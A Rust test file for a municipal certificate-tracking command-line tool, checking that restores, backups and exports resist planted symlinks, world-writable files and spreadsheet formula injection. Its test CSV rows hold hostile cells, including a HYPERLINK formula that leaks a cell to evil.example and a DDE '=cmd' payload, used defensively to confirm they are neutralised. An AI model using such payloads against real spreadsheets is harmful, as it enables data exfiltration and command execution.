//! What the commands do to files around them, as a careless user or a hostile
//! neighbour on a shared server would try: a failed restore, planted links,
//! and cells that a spreadsheet would run.

mod common;

use common::cli::{ocsae_at, text};
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Output;

fn ocsae(db: &Path, args: &[&str]) -> Output {
    ocsae_at(db, args, "2026-12-05T12:00:00+01:00")
}

fn ok(out: Output) -> String {
    assert!(out.status.success(), "{}", text(&out.stderr));
    text(&out.stdout)
}

fn failed(out: Output) -> String {
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    text(&out.stderr)
}

/// A Noguera store with three requests, and its backup at `dir/backup.json`.
fn store_and_backup() -> (tempfile::TempDir, PathBuf, serde_json::Value) {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("db");
    ok(ocsae(&db, &["init"]));
    let csv = dir.path().join("office.csv");
    fs::write(
        &csv,
        "ine_code;holder;role;type;operation;urgent;status;received_at;issued_at\n\
         252228;Maria Puig;mayor;tcat;new;no;received;2026-12-01 09:00;\n\
         250024;Jordi Solé;secretary;tcat;new;no;received;2026-12-02 09:00;\n",
    )
    .unwrap();
    ok(ocsae(&db, &["import", "certificates", csv.to_str().unwrap()]));
    let backup = dir.path().join("backup.json");
    ok(ocsae(&db, &["backup", backup.to_str().unwrap()]));
    let json = serde_json::from_slice(&fs::read(&backup).unwrap()).unwrap();
    (dir, db, json)
}

/// Every file and directory under `dir`, with each file's content.
fn snapshot(dir: &Path) -> Vec<(PathBuf, Option<Vec<u8>>)> {
    let mut out = Vec::new();
    for entry in fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        let meta = path.symlink_metadata().unwrap();
        if meta.is_dir() {
            out.push((path.clone(), None));
            out.extend(snapshot(&path));
        } else {
            out.push((path.clone(), fs::read(&path).ok()));
        }
    }
    out.sort();
    out
}

#[test]
fn a_failed_restore_removes_only_what_it_created() {
    let (dir, _db, json) = store_and_backup();
    let bad = |name: &str, change: &dyn Fn(&mut serde_json::Value)| {
        let mut copy = json.clone();
        change(&mut copy);
        let path = dir.path().join(name);
        fs::write(&path, serde_json::to_vec(&copy).unwrap()).unwrap();
        path
    };
    let refused = [
        bad("newer.json", &|j| j["schema_version"] = 999.into()),
        bad("format.json", &|j| j["format"] = "not-ocsae".into()),
        bad("twice.json", &|j| {
            j["certificates"][1]["id"] = j["certificates"][0]["id"].clone()
        }),
    ];
    let places = tempfile::tempdir().unwrap();
    let empty = places.path().join("empty");
    fs::create_dir(&empty).unwrap();
    let linked = places.path().join("linked");
    fs::create_dir(&linked).unwrap();
    let link = places.path().join("link");
    symlink(&linked, &link).unwrap();
    for backup in &refused {
        let backup = backup.to_str().unwrap();
        // An empty directory that was there stays, empty.
        failed(ocsae(&empty, &["restore", backup]));
        assert!(empty.is_dir(), "{backup}");
        assert_eq!(fs::read_dir(&empty).unwrap().count(), 0, "{backup}");
        // A link given as --db stays a link, and its directory stays, empty.
        failed(ocsae(&link, &["restore", backup]));
        assert!(link.symlink_metadata().unwrap().file_type().is_symlink());
        assert_eq!(fs::read_dir(&linked).unwrap().count(), 0, "{backup}");
        // Directories it made, parents included, go.
        let deep = places.path().join("new/a/b");
        failed(ocsae(&deep, &["restore", backup]));
        assert!(!places.path().join("new").exists(), "{backup}: new/a left behind");
    }
    // The same places take a good backup afterwards.
    let good = dir.path().join("backup.json");
    ok(ocsae(&empty, &["restore", good.to_str().unwrap()]));
    ok(ocsae(&link, &["restore", good.to_str().unwrap()]));
    assert!(link.symlink_metadata().unwrap().file_type().is_symlink());
    assert!(linked.join("sled").is_dir());
}

#[test]
fn a_restore_into_a_directory_made_readable_by_all_leaves_it_private() {
    let (dir, _db, _) = store_and_backup();
    let backup = dir.path().join("backup.json");
    let places = tempfile::tempdir().unwrap();
    let empty = places.path().join("restored");
    fs::create_dir(&empty).unwrap();
    fs::set_permissions(&empty, fs::Permissions::from_mode(0o755)).unwrap();
    ok(ocsae(&empty, &["restore", backup.to_str().unwrap()]));
    let mode = fs::metadata(&empty).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700, "anyone could lock it and keep its owner out");
    for entry in fs::read_dir(&empty).unwrap() {
        let meta = entry.unwrap().metadata().unwrap();
        assert_eq!(meta.permissions().mode() & 0o077, 0, "{meta:?}");
    }
}

#[test]
fn a_read_copy_left_by_a_killed_process_goes_at_the_next_start() {
    let (_dir, db, _) = store_and_backup();
    let tmp = tempfile::tempdir().unwrap();
    // A process that has ended: its id names no process now.
    let mut gone = std::process::Command::new("true").spawn().unwrap();
    let gone_pid = gone.id();
    gone.wait().unwrap();
    let stale = tmp.path().join(format!("ocsae-read-{gone_pid}-a1B2c3"));
    fs::create_dir_all(stale.join("sled")).unwrap();
    fs::write(stale.join("sled/db"), vec![0u8; 4096]).unwrap();
    // Kept: a copy of a process still running, a name of another kind, a link.
    let running = tmp.path().join(format!("ocsae-read-{}-x", std::process::id()));
    fs::create_dir(&running).unwrap();
    let other = tmp.path().join("ocsae-read-notapid");
    fs::create_dir(&other).unwrap();
    let target = tempfile::tempdir().unwrap();
    let link = tmp.path().join(format!("ocsae-read-{gone_pid}-link"));
    symlink(target.path(), &link).unwrap();
    let mut export = common::cli::command_at(&db, &["export", "municipalities"], "2026-12-05T12:00:00+01:00");
    let out = export.env("TMPDIR", tmp.path()).output().unwrap();
    ok(out);
    assert!(!stale.exists(), "the copy of a killed process is still there");
    assert!(running.is_dir() && other.is_dir());
    assert!(link.symlink_metadata().is_ok() && target.path().is_dir());
}

#[test]
fn restore_refuses_a_directory_that_holds_other_files_before_touching_it() {
    let (dir, _db, _) = store_and_backup();
    let good = dir.path().join("backup.json");
    let bad = dir.path().join("bad.json");
    fs::write(&bad, r#"{"format": "other"}"#).unwrap();
    let home = tempfile::tempdir().unwrap();
    let thesis = home.path().join("D");
    fs::create_dir_all(thesis.join("sub")).unwrap();
    fs::write(thesis.join("thesis.txt"), "x\n").unwrap();
    let before = snapshot(home.path());
    for backup in [&good, &bad] {
        let err = failed(ocsae(&thesis, &["restore", backup.to_str().unwrap()]));
        assert!(
            err.contains("is not an ocsae store nor an empty directory"),
            "{err}"
        );
        assert_eq!(
            snapshot(home.path()),
            before,
            "nothing created, locked or removed"
        );
    }
    // `--db .` from inside it, as a person would type it.
    let restore_here = |db: &str, backup: &Path| {
        std::process::Command::new(common::pty::binary())
            .current_dir(&thesis)
            .args(["--db", db, "--lang", "en", "restore"])
            .arg(backup)
            .env("XDG_CONFIG_HOME", dir.path().join("no-config"))
            .output()
            .unwrap()
    };
    let err = failed(restore_here(".", &bad));
    assert!(err.contains(". is not an ocsae store"), "{err}");
    assert_eq!(snapshot(home.path()), before);
    // A file is not a store either.
    let err = failed(restore_here("thesis.txt", &good));
    assert!(err.contains("thesis.txt is not an ocsae store"), "{err}");
    assert_eq!(snapshot(home.path()), before);
}

fn mode(path: &Path) -> u32 {
    path.symlink_metadata().unwrap().permissions().mode() & 0o777
}

#[test]
fn outputs_never_go_through_a_planted_link_or_file() {
    let (dir, db, _) = store_and_backup();
    // A directory others can write to, and a file of the victim's they aim at.
    let shared = tempfile::tempdir().unwrap();
    fs::set_permissions(shared.path(), fs::Permissions::from_mode(0o777)).unwrap();
    let victim = dir.path().join("bashrc");
    fs::write(&victim, "# mine\n").unwrap();
    let path = |name: &str| shared.path().join(name);
    let commands: [(&str, Vec<&str>); 3] = [
        ("report.txt", vec!["report", "-o"]),
        (
            "export.csv",
            vec!["export", "certificates", "--format", "csv", "-o"],
        ),
        ("backup.json", vec!["backup"]),
    ];
    for (name, args) in &commands {
        let target = path(name);
        // The temporary name ocsae used to write: a link to the victim's file,
        // and a world-writable file planted beside it for another output.
        let stem = Path::new(name).file_stem().unwrap().to_str().unwrap();
        symlink(&victim, path(&format!("{stem}.ocsae-tmp"))).unwrap();
        let mut args = args.clone();
        args.push(target.to_str().unwrap());
        ok(ocsae(&db, &args));
        assert_eq!(fs::read_to_string(&victim).unwrap(), "# mine\n", "{name}");
        assert!(fs::read(&target).unwrap().len() > 100, "{name} was written");
        assert_eq!(mode(&target), 0o600, "{name} is private");
        fs::remove_file(path(&format!("{stem}.ocsae-tmp"))).unwrap();

        let planted = path(&format!("{stem}.ocsae-tmp"));
        fs::write(&planted, "").unwrap();
        fs::set_permissions(&planted, fs::Permissions::from_mode(0o666)).unwrap();
        ok(ocsae(&db, &args));
        assert_eq!(
            fs::read(&planted).unwrap(),
            b"",
            "{name}: nothing written to a planted file"
        );
        assert_eq!(mode(&target), 0o600, "{name}: not the planted 0666 file");
        fs::remove_file(&planted).unwrap();

        // A link at the target itself is replaced by the file, not followed.
        fs::remove_file(&target).unwrap();
        symlink(&victim, &target).unwrap();
        ok(ocsae(&db, &args));
        assert_eq!(fs::read_to_string(&victim).unwrap(), "# mine\n", "{name}");
        assert!(
            target.symlink_metadata().unwrap().is_file(),
            "{name}: the link was replaced"
        );
        assert_eq!(mode(&target), 0o600);
    }
    // Nothing else is left in the directory: no temporary file behind.
    let mut names: Vec<String> = fs::read_dir(shared.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(names, ["backup.json", "export.csv", "report.txt"]);
}

#[test]
fn backup_refuses_a_file_inside_the_store() {
    let (dir, db, _) = store_and_backup();
    let link = dir.path().join("link");
    symlink(&db, &link).unwrap();
    let before = snapshot(&db);
    for target in [
        db.join("backup.json"),
        db.join("sled/backup.json"),
        link.join("backup.json"),
        db.clone(),
    ] {
        let err = failed(ocsae(&db, &["backup", target.to_str().unwrap()]));
        assert!(err.contains("is inside the store"), "{err}");
    }
    // Opening and closing reseals it, so compare what was there by name.
    let names = |s: Vec<(PathBuf, Option<Vec<u8>>)>| s.into_iter().map(|(p, _)| p).collect::<Vec<_>>();
    assert_eq!(names(snapshot(&db)), names(before));
    // Beside the store is fine.
    ok(ocsae(
        &db,
        &["backup", dir.path().join("db-backup.json").to_str().unwrap()],
    ));
}

#[test]
fn no_output_goes_inside_the_store() {
    let (dir, db, _) = store_and_backup();
    let link = dir.path().join("link");
    symlink(&db, &link).unwrap();
    let before = fs::read(db.join("sled/db")).unwrap();
    let targets = [
        db.join("sled/db"),
        db.join("seal"),
        db.join("out.csv"),
        link.join("sled/db"),
    ];
    for target in &targets {
        let target = target.to_str().unwrap();
        for args in [
            &["export", "municipalities", "--format", "csv", "-o", target][..],
            &["export", "certificates", "-o", target],
            &["report", "-o", target],
            &["backup", target],
        ] {
            let err = failed(ocsae(&db, args));
            assert!(err.contains("is inside the store"), "{args:?}: {err}");
        }
    }
    assert_eq!(
        fs::read(db.join("sled/db")).unwrap(),
        before,
        "the store is as it was"
    );
    assert!(!db.join("out.csv").exists());
    // The store still opens and reads.
    let json: serde_json::Value = serde_json::from_str(&ok(ocsae(&db, &["export", "certificates"]))).unwrap();
    assert_eq!(json.as_array().unwrap().len(), 2);
}

#[test]
fn an_output_that_is_a_device_a_pipe_or_a_directory_is_refused_and_dash_is_stdout() {
    use std::os::unix::fs::FileTypeExt;
    let (dir, db, _) = store_and_backup();
    let fifo = dir.path().join("fifo");
    let name = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(name.as_ptr(), 0o600) }, 0);
    let to_null = dir.path().join("null-link");
    symlink("/dev/null", &to_null).unwrap();
    let mut nodes = vec![fifo.clone(), to_null.clone(), dir.path().to_path_buf()];
    // A device of our own, as root can make one (the repro's `mknod n c 1 3`).
    let device = dir.path().join("n");
    let name = std::ffi::CString::new(device.as_os_str().as_encoded_bytes()).unwrap();
    if unsafe { libc::mknod(name.as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 3)) } == 0 {
        nodes.push(device.clone());
    }
    for node in &nodes {
        let target = node.to_str().unwrap();
        for args in [
            &["export", "rollout", "-o", target][..],
            &["report", "-o", target],
            &["backup", target],
        ] {
            let err = failed(ocsae(&db, args));
            assert!(
                err.contains("is not a regular file") && err.contains("use -o -"),
                "{args:?}: {err}"
            );
        }
    }
    assert!(fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
    assert!(fs::symlink_metadata(&to_null).unwrap().file_type().is_symlink());
    if nodes.contains(&device) {
        assert!(
            fs::symlink_metadata(&device)
                .unwrap()
                .file_type()
                .is_char_device()
        );
    }
    // `-o -` is standard output, for every writer.
    let json: serde_json::Value =
        serde_json::from_str(&ok(ocsae(&db, &["export", "certificates", "-o", "-"]))).unwrap();
    assert_eq!(json.as_array().unwrap().len(), 2);
    assert!(ok(ocsae(&db, &["report", "-o", "-"])).contains("Noguera"));
    let out = ocsae(&db, &["backup", "-"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let backup: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(backup["certificates"].as_array().unwrap().len(), 2);
    assert!(
        text(&out.stderr).contains("Backup written"),
        "{}",
        text(&out.stderr)
    );
    assert!(!dir.path().join("-").exists());
}

#[test]
fn init_and_the_first_run_refuse_a_directory_holding_other_files() {
    let dir = tempfile::tempdir().unwrap();
    let thesis = dir.path().join("thesis");
    fs::create_dir_all(thesis.join("sub")).unwrap();
    fs::write(thesis.join("thesis.txt"), "chapter 1").unwrap();
    let before = snapshot(&thesis);
    let err = failed(ocsae(&thesis, &["init"]));
    assert!(
        err.contains("is not an ocsae store nor an empty directory"),
        "{err}"
    );
    // The dashboard's first run would create it too; it is refused before the screen opens.
    let err = failed(ocsae(&thesis, &[]));
    assert!(
        err.contains("is not an ocsae store nor an empty directory"),
        "{err}"
    );
    assert_eq!(snapshot(&thesis), before, "nothing was added");
    // `--db .` in a working directory is the same directory.
    let out = std::process::Command::new(common::pty::binary())
        .args(["--db", ".", "--lang", "en", "init"])
        .current_dir(&thesis)
        .env("XDG_CONFIG_HOME", dir.path().join("no-config"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("is not an ocsae store"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(snapshot(&thesis), before);
    // An empty directory, or a new one, takes a store; a store stays one.
    let empty = dir.path().join("empty");
    fs::create_dir(&empty).unwrap();
    ok(ocsae(&empty, &["init"]));
    ok(ocsae(&dir.path().join("new/db"), &["init"]));
    let err = failed(ocsae(&empty, &["init"]));
    assert!(!err.contains("not an ocsae store"), "{err}");
}

/// A row whose cells a spreadsheet would run, as typed in the office's sheet.
const FORMULAS: &str = "ine_code;holder;role;type;operation;urgent;status;received_at;issued_at;reason;notes;status_reason\n\
    252228;\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\";mayor;tcat;new;no;received;2026-12-01 09:00;;;+34 973 00 00 00;@SUM(1)\n\
    250024;-2+3;secretary;tcat;new;yes;received;2026-12-02 09:00;;=cmd|' /C calc'!A0;'quoted;''=twice\n";

#[test]
fn csv_exports_neutralise_formulas_and_read_back_exactly() {
    let (dir, db, _) = store_and_backup();
    let file = dir.path().join("formulas.csv");
    fs::write(&file, FORMULAS).unwrap();
    ok(ocsae(&db, &["import", "certificates", file.to_str().unwrap()]));
    let json: serde_json::Value = serde_json::from_str(&ok(ocsae(&db, &["export", "certificates"]))).unwrap();
    let ours = &json.as_array().unwrap()[2..];
    // JSON is exact; an import takes off only a quote an export could have put.
    assert_eq!(
        ours[0]["holder"],
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(ours[0]["notes"], "+34 973 00 00 00");
    assert_eq!(ours[0]["status_reason"], "@SUM(1)");
    assert_eq!(ours[1]["holder"], "-2+3");
    assert_eq!(ours[1]["reason"], "=cmd|' /C calc'!A0");
    assert_eq!(ours[1]["notes"], "'quoted");
    assert_eq!(ours[1]["status_reason"], "'=twice");

    let csv = ok(ocsae(&db, &["export", "certificates", "--format", "csv"]));
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
    let headers = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cell =
        |row: usize, name: &str| rows[row][headers.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(
        cell(2, "holder"),
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(cell(2, "notes"), "'+34 973 00 00 00");
    assert_eq!(cell(2, "status_reason"), "'@SUM(1)");
    assert_eq!(cell(3, "holder"), "'-2+3");
    assert_eq!(cell(3, "reason"), "'=cmd|' /C calc'!A0");
    assert_eq!(cell(3, "notes"), "''quoted");
    assert_eq!(cell(3, "status_reason"), "''=twice");
    assert_eq!(cell(0, "holder"), "Maria Puig", "plain text is as it was");
    for row in &rows {
        for value in row {
            assert!(!value.starts_with(['=', '+', '-', '@', '\t', '\r']), "{value:?}");
        }
    }

    // The CSV read back into another store gives the same text.
    let exported = dir.path().join("exported.csv");
    fs::write(&exported, &csv).unwrap();
    let other = tempfile::tempdir().unwrap();
    let other_db = other.path().join("db");
    ok(ocsae(&other_db, &["init"]));
    ok(ocsae(
        &other_db,
        &["import", "certificates", exported.to_str().unwrap()],
    ));
    let again: serde_json::Value =
        serde_json::from_str(&ok(ocsae(&other_db, &["export", "certificates"]))).unwrap();
    for (a, b) in json.as_array().unwrap().iter().zip(again.as_array().unwrap()) {
        for field in ["holder", "reason", "notes", "status_reason"] {
            assert_eq!(a[field], b[field], "{field}");
        }
    }

    // Contacts go as JSON in one cell, which starts with `[`: a formula inside is text.
    let contacts = dir.path().join("contacts.csv");
    fs::write(
        &contacts,
        "ine_code,role,name,phone\n252228,mayor,=1+1,+34 973 00 00 00\n",
    )
    .unwrap();
    ok(ocsae(&db, &["import", "contacts", contacts.to_str().unwrap()]));
    let csv = ok(ocsae(&db, &["export", "municipalities", "--format", "csv"]));
    let line = csv.lines().find(|l| l.starts_with("252228,")).unwrap();
    assert!(
        line.contains(r#""[{""role"":""mayor"",""name"":""=1+1"",""phone"":""+34 973 00 00 00"""#),
        "{line}"
    );
}

/// Every cell a spreadsheet finds in `csv` when it splits on `sep` (as LibreOffice
/// does: a quote that does not open a cell is text).
fn cells_split_on(csv: &str, sep: u8) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(sep)
        .has_headers(false)
        .flexible(true)
        .from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

#[test]
fn a_spreadsheet_splitting_on_semicolons_finds_no_formula_either() {
    let (dir, db, _) = store_and_backup();
    let holders = [
        "a;=2+3;b",
        "Puig, Maria;=2*21;x",
        "c;\"=3+4\";d",
        "e;=HYPERLINK(\"http://evil.example\";\"x\")",
        "f;'g;@h;-i;+j",
    ];
    for holder in holders {
        ok(ocsae(
            &db,
            &[
                "cert",
                "add",
                "--municipality",
                "252228",
                "--role",
                "other",
                "--type",
                "tcat",
                "--holder",
                holder,
            ],
        ));
    }
    let csv = ok(ocsae(&db, &["export", "certificates", "--format", "csv"]));
    for sep in [b',', b';'] {
        for cell in cells_split_on(&csv, sep) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} read with {:?}",
                sep as char
            );
        }
    }
    assert!(csv.contains("a;'=2+3;b"), "{csv}");
    // Imported again, each holder is exactly what was typed.
    let exported = dir.path().join("exported.csv");
    fs::write(&exported, &csv).unwrap();
    let other = tempfile::tempdir().unwrap();
    let other_db = other.path().join("db");
    ok(ocsae(&other_db, &["init"]));
    ok(ocsae(
        &other_db,
        &["import", "certificates", exported.to_str().unwrap()],
    ));
    let json: serde_json::Value =
        serde_json::from_str(&ok(ocsae(&other_db, &["export", "certificates"]))).unwrap();
    let back: Vec<&str> = json.as_array().unwrap()[2..]
        .iter()
        .map(|c| c["holder"].as_str().unwrap())
        .collect();
    assert_eq!(back, holders);
}

#[test]
fn restore_reads_only_a_regular_file_and_never_waits_on_a_pipe() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("backup.json");
    let c_path = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: mkfifo only creates a node at a path we own.
    assert_eq!(unsafe { libc::mkfifo(c_path.as_ptr(), 0o600) }, 0);
    let db = dir.path().join("db");
    let mut child = common::cli::command_at(
        &db,
        &["restore", fifo.to_str().unwrap()],
        "2026-12-05T12:00:00+01:00",
    )
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::piped())
    .spawn()
    .unwrap();
    let started = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        assert!(
            started.elapsed() < std::time::Duration::from_secs(5),
            "restore is waiting on a pipe"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(!db.exists(), "nothing is created for a refused backup");
    let err = text(&out.stderr);
    assert!(
        err.contains("backup.json") && err.contains("not a regular file"),
        "{err}"
    );
    for dev in ["/dev/zero", "/dev/null"] {
        let err = failed(ocsae(&db, &["restore", dev]));
        assert!(err.contains(dev), "{err}");
    }
}

/// The README's table of the store's files, by name.
fn readme_files_table() -> Vec<String> {
    let readme = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
    let files = readme.split("\n## Files\n").nth(1).unwrap();
    let table = files.split("\n### ").next().unwrap();
    table
        .lines()
        .filter_map(|l| l.strip_prefix("| `"))
        .map(|l| l.split('`').next().unwrap().trim_end_matches('/').to_string())
        .collect()
}

#[test]
fn the_readme_names_every_file_a_store_holds_and_says_an_import_files_again() {
    let (dir, db, _) = store_and_backup();
    let documented = readme_files_table();
    for entry in fs::read_dir(&db).unwrap() {
        let name = entry.unwrap().file_name().into_string().unwrap();
        assert!(
            documented.contains(&name),
            "{name} is not in the README's Files table: {documented:?}"
        );
    }
    // Importing the same file again files its requests again, as the README says.
    let office = dir.path().join("office.csv");
    ok(ocsae(&db, &["import", "certificates", office.to_str().unwrap()]));
    let json: serde_json::Value = serde_json::from_str(&ok(ocsae(&db, &["export", "certificates"]))).unwrap();
    let holders: Vec<&str> = json
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["holder"].as_str().unwrap())
        .collect();
    assert_eq!(holders, ["Maria Puig", "Jordi Solé", "Maria Puig", "Jordi Solé"]);
    let readme = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
    assert!(readme.contains("importing the same file twice files its requests twice"));
}

#[test]
fn a_restore_says_how_many_councils_requests_and_activities_it_brought_back() {
    let (dir, db, _) = store_and_backup();
    ok(ocsae(
        &db,
        &[
            "activity",
            "add",
            "--municipality",
            "tiurana",
            "--kind",
            "call",
            "--summary",
            "Clau",
        ],
    ));
    let backup = dir.path().join("with-call.json");
    ok(ocsae(&db, &["backup", backup.to_str().unwrap()]));
    let said = ok(ocsae(
        &dir.path().join("new"),
        &["restore", backup.to_str().unwrap()],
    ));
    assert!(said.contains(": 30 councils, 2 requests, 1 activity."), "{said}");
}
